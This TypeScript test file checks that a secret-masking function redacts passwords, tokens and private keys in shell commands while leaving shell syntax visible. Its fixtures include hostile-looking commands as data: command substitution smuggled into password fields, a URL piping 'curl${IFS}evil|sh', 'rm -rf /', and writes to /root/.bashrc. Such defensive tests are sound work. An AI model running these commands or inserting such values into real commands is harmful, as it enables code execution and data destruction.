import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { SECRETS } from './corpus.ts';
import { maskCallJson } from './json.ts';
import { createMasker } from './masking.ts';

const LITERAL = 'x9;y$(id)|"long enough" #a*~';
const maskers = {
  'as it comes': createMasker(),
  'with everything on': createMasker({
    broadCapitals: true,
    patterns: [{ name: 'acme', source: 'acme-.{4,}' }],
  }),
};
maskers['with everything on'].hide([LITERAL, 'plain-literal-secret']);
const masker = maskers['as it comes'];

const KEY = 'MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj';

describe('[P4] a mask never covers shell syntax', () => {
  const payload = 'touch P';
  test.each([
    [': "-----BEGIN PRIVATE KEY-----"; touch P; : "-----END PRIVATE KEY-----"', null],
    ['git fetch # -----BEGIN PRIVATE KEY-----\ntouch P', null],
    [
      'mysql --password "x$(touch P)" -e "select 1"',
      'mysql --password "***MASKED***$(touch P)" -e "select 1"',
    ],
    [
      'curl -d "{\\"password\\": \\"x$(touch P)\\"}" URL',
      'curl -d "{\\"password\\": \\"***MASKED***$(touch P)\\"}" URL',
    ],
    [
      `DB_PASSWORD="${'a1'.repeat(35)}$(touch P)" true`,
      'DB_PASSWORD="***MASKED***$(touch P)" true',
    ],
    [
      'curl http://a:x$(touch$' + '{IFS}P)@host; touch P',
      'curl http://a:***MASKED***$(touch$' + '{IFS}P)@host; touch P',
    ],
    ['git clone https://bob:pw;touch P|sh;@host', null],
    [
      'git clone https://bob:pw;curl$' + '{IFS}evil|sh;@host # touch P',
      'git clone https://bob:***MASKED***;curl$' + '{IFS}evil|sh;@host # touch P',
    ],
    ['echo "password=\'"; touch P; echo "\'"', null],
    [`bash -c "env 'password=' touch P ''"`, null],
    [`sh -c 'curl "token=" -T touch P ""'`, null],
    ['sh -c "env \\"password=\\" touch P \\"\\""', null],
    ["password: '`touch P`'", null],
    ['password=a1b2c3&touch P', 'password=***MASKED***&touch P'],
    ['password: |\n  hunter2\n  $(touch P)\n', null],
    ['curl -s https://a.example -H token: |\n  bash -c "touch P"', null],
    ['# -----BEGIN PRIVATE KEY-----\nscripts/aaaaaaaaaaaaaaaaaaaaaaaa/run # touch P', null],
    [
      `curl -u "me:x$(touch P)" https://a.example`,
      `curl -u "me:***MASKED***$(touch P)" https://a.example`,
    ],
    ['<password>x;touch P</password>', null],
  ])('%s', (command, shown) => {
    expect(masker.maskCall(command)).toBe(shown ?? command);
    expect(masker.maskCall(command)).toContain(payload);
  });

  test.each([
    // These quotes do not enclose the text between them, which are arguments.
    ["rm 'password=' -rf / ''", "rm 'password=' -rf / ''"],
    ["rm password=\\' -rf / \\'", "rm password=\\' -rf / \\'"],
    [
      'mysql --password "correct horse battery" -e x',
      'mysql --password "***MASKED*** horse battery" -e x',
    ],
    [
      'curl -d \'{"password": "correct horse battery"}\' URL',
      'curl -d \'{"password": "***MASKED*** horse battery"}\' URL',
    ],
    // These quotes are removed before the text is used.
    ['eval password="x touch P"', 'eval password="***MASKED*** touch P"'],
    ['TOKEN="bash -c id"; $TOKEN', 'TOKEN="***MASKED*** -c id"; $TOKEN'],
    ['env -S password="x rm -rf y"', 'env -S password="***MASKED*** rm -rf y"'],
    ["make token='touch P'", "make token='***MASKED*** P'"],
    ['git -c alias.token="!touch P" token', 'git -c alias.token="!touch P" token'],
    [
      "cat <<'EOF'\nit's password: 'correct horse'\nEOF",
      "cat <<'EOF'\nit's password: '***MASKED*** horse'\nEOF",
    ],
  ])('nor the blanks between words: %s', (command, shown) => {
    expect(masker.maskCall(command)).toBe(shown);
  });

  test.each([
    // A comment hides the rest of the line from the shell.
    ['npm run deploy -- --token #a1b2c3 --dry-run', null],
    ['git push --password #s3cret9 --dry-run origin main', null],
    ['echo password: #abc123 ; touch P', null],
    ['eval deploy --token "#a1b2c3" --dry-run', null],
    ["ssh host deploy --token '#a1b2c3' --dry-run", null],
    ['echo Bearer ~a1b2c3d4e5', null],
    ['echo Bearer =a1b2c3d4e5', null],
    ['cmd --password =a1b2c3', 'cmd --password =***MASKED***'],
    ['PASSWORD=~root/abc9 cmd', null],
    ['TOKEN=#abc123 ls', 'TOKEN=***MASKED*** ls'],
    ['TOKEN=abc123#def ls', 'TOKEN=***MASKED*** ls'],
    ['curl -u a:#b9 --head http://x', 'curl -u a:***MASKED*** --head http://x'],
    // A wildcard names files.
    ['PASSWORD=x1y2z3[abc]*/q cmd', 'PASSWORD=***MASKED***[abc]*/q cmd'],
    ['tar cf a.tar --token *a1b2c3*', null],
    ['curl --password ?a1b2c3', null],
    ['x --token abc123* y', 'x --token ***MASKED**** y'],
    ['x --token [a]bc123 y', null],
  ])(
    'nor what begins a comment, names a home directory or stands for file names: %s',
    (command, shown) => {
      expect(masker.maskCall(command)).toBe(shown ?? command);
      expect(masker.maskCall(shown ?? command)).toBe(shown ?? command);
    },
  );

  test.each([
    ['env {TOKEN=abcdef,touch,P1}', 'env {TOKEN=***MASKED***,touch,P1}'],
    [
      'env {SECRET=s3cr3t,rm,-rf,src} && npm test',
      'env {SECRET=***MASKED***,rm,-rf,src} && npm test',
    ],
    ['IFS=,; TOKEN=abcdef,-rf,src; $TOKEN', 'IFS=,; TOKEN=***MASKED***,-rf,src; $TOKEN'],
  ])('nor the commas that separate words in braces: %s', (command, shown) => {
    expect(masker.maskCall(command)).toBe(shown);
  });

  test.each([
    'PASSWORD= python3 evil.py',
    'PASSWORD= "reboot"',
    'eval DB_PASSWORD= "touch P"',
    'echo x TOKEN=> "/root/.bashrc"',
    'echo x > TOKEN=>/root/.bashrc',
  ])('nor a program or a file after an empty value: %s', (command) => {
    expect(masker.maskCall(command)).toBe(command);
  });

  test('a private key is masked line by line, and the text around it is shown', () => {
    const file = (body: string): string =>
      `cat > k <<EOF\n-----BEGIN PRIVATE KEY-----\n${body}\n-----END PRIVATE KEY-----\nEOF\ntouch P`;
    const mask = '***PRIVATE_KEY***';
    expect(masker.maskCall(file(`${KEY}\n${KEY}\nabc12=`))).toBe(
      file([mask, mask, mask].join('\n')),
    );
    expect(masker.maskCall(`printf '${file(`${KEY}\\n${KEY}`)}'`)).toBe(
      `printf '${file(`${mask}\\n${mask}`)}'`,
    );
    const github = SECRETS[0]!;
    expect(masker.maskCall(file(`; ${github.text}`))).toBe(file(`; ${github.masked}`));
  });

  test.each([
    'scripts/aaaaaaaaaaaaaaaaaaaaaaaa/run',
    `bin/${KEY}`,
    'thisIsTheNameOfAProgramOrFunction',
  ])('a program is not taken for a line of a private key: %s', (program) => {
    for (const command of [
      `# -----BEGIN PRIVATE KEY-----\n${program}\nls`,
      `: -----BEGIN PRIVATE KEY-----\n${program}\n: -----END PRIVATE KEY-----`,
    ]) {
      expect(masker.maskCall(command)).toBe(command);
    }
  });

  test('a line of a private key may have a slash anywhere', () => {
    const line = `MII/${KEY.slice(4)}`;
    const key = (body: string): string => `-----BEGIN PRIVATE KEY-----\n${KEY}\n${body}\n`;
    expect(masker.maskCall(key(line))).toBe(
      key('***PRIVATE_KEY***').replace(KEY, '***PRIVATE_KEY***'),
    );
  });

  test('of a private key in quotes every line is masked, with slashes and line numbers, whole or cut off', () => {
    for (const { what, text } of SECRETS.filter((one) => one.what.startsWith('private key'))) {
      const shown = masker.maskCall(`printf %s '${text}'; touch P`);
      expect(shown, what).toMatch(/'; touch P$/);
      expect(shown, what).not.toMatch(/[A-Za-z0-9+/]{24,}/);
    }
  });

  test('the rest of a value that holds syntax is still searched for secrets', () => {
    const github = SECRETS[0]!;
    expect(masker.maskCall(`mysql --password "a;${github.text}"`)).toBe(
      `mysql --password "***MASKED***;${github.masked}"`,
    );
  });

  test('secrets that hold no syntax are masked as elsewhere', () => {
    // A block of YAML begins with a pipe, after which a program may come, and `=>` is a redirection.
    const plain = SECRETS.filter(
      ({ what, text, secret }) =>
        /^[\w.+/=@:-]+$/.test(secret) && !what.startsWith('YAML') && !text.includes('=>'),
    );
    expect(plain.length).toBeGreaterThan(60);
    for (const { what, text, masked } of plain) {
      expect(masker.maskCall(text), what).toBe(masked);
    }
  });

  test('the server’s own secrets never show, but the syntax in them does', () => {
    const { maskCall } = maskers['with everything on'];
    const shown = maskCall(`echo '${LITERAL}' plain-literal-secret`);
    expect(shown).toBe(
      `echo '***MASKED***;***MASKED***$(***MASKED***)|"***MASKED*** ***MASKED***" #***MASKED****~' ***MASKED***`,
    );
  });

  const SYNTAX = /[$`;|&<>(){}[\]*?"'\\\s]|(?<![^$`;|&<>(){}[\]*?"'\\\s])[#~]/g;
  const syntaxOf = (text: string): string =>
    (text.replace(/\*{3}[A-Z][A-Z_]*\*{3}/g, 'x').match(SYNTAX) ?? []).join('');
  const scraps = [
    ...'$( ` ; | & < > \n ) " \' \\ { } \\" \\\' # = : @ / - -- . *** * ? [ ] ~ ! #a1b2c3'.split(
      ' ',
    ),
    ...[
      '$' + '{IFS}',
      ' ',
      '\t',
      '<<EOF\n',
      'x',
      'a1b2c3',
      'correct horse',
      'touch P',
      'curl -u me:',
    ],
    ...[
      'password',
      'password=',
      '--password ',
      'DB_PASSWORD="',
      '"password": "',
      'password: |\n  ',
    ],
    ...['Bearer ', 'Authorization: Basic ', '://a:', 'https://bob:', '@host', 'token=', '&sig='],
    ...[
      '-----BEGIN PRIVATE KEY-----',
      '-----END PRIVATE KEY-----',
      KEY,
      'machine x login y password ',
    ],
    ...[
      '<password>',
      '</password>',
      '"auth": "',
      'db:5432:a:b:',
      'baton_session=',
      '/sign-in?code=',
    ],
    ...[
      '{"name":"DB_PASSWORD","value":"',
      'acme-',
      'ABCDEFGHIJ0123456789',
      LITERAL,
      LITERAL.slice(3),
    ],
  ];
  const anyCommand = fc
    .array(
      fc.oneof(
        { weight: 5, arbitrary: fc.constantFrom(...scraps) },
        { weight: 2, arbitrary: fc.constantFrom(...SECRETS.map(({ text }) => text)) },
        { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 6 }) },
      ),
      { maxLength: 16 },
    )
    .map((pieces) => pieces.join(''));

  test.each(Object.entries(maskers))('all syntax of any command stays visible: %s', (_, each) => {
    fc.assert(
      fc.property(anyCommand, (command) => {
        const shown = each.maskCall(command);
        expect(syntaxOf(shown)).toBe(syntaxOf(command));
        expect(each.maskCall(shown)).toBe(shown);
      }),
      { numRuns: 4000 },
    );
  });

  test('the time is linear', { timeout: 60_000 }, () => {
    const time = (text: string): number => {
      const start = process.cpuUsage();
      masker.maskCall(text);
      return process.cpuUsage(start).user / 1000;
    };
    for (const unit of [...scraps, "'", 'password="a', '-----BEGIN PRIVATE KEY-----\n']) {
      const small = time(unit.repeat(Math.ceil(8192 / unit.length)));
      const large = time(unit.repeat(Math.ceil((16 * 8192) / unit.length)));
      expect(large, JSON.stringify(unit)).toBeLessThan(Math.max(small, 5) * 130);
    }
  });
});

describe('[P4] the input of a call, as JSON', () => {
  test('every text, and fields by their names, as far as they hold no syntax', () => {
    const input = {
      command: 'mysql --password "x$(touch P)"',
      env: { DB_PASSWORD: 'correct horse', API_TOKEN: 'abc123;touch P', password: '$(touch P)' },
      list: [{ name: 'DB_PASSWORD', value: 'hunter2' }],
      secret: `$x ${SECRETS[0]!.text}`,
      token: '#a1b2c3',
    };
    expect(maskCallJson(masker, input)).toEqual({
      command: 'mysql --password "***MASKED***$(touch P)"',
      env: {
        DB_PASSWORD: '***MASKED*** horse',
        API_TOKEN: '***MASKED***;touch P',
        password: '$(touch P)',
      },
      list: [{ name: 'DB_PASSWORD', value: '***MASKED***' }],
      secret: `$x ${SECRETS[0]!.masked}`,
      token: '#a1b2c3',
    });
  });
});
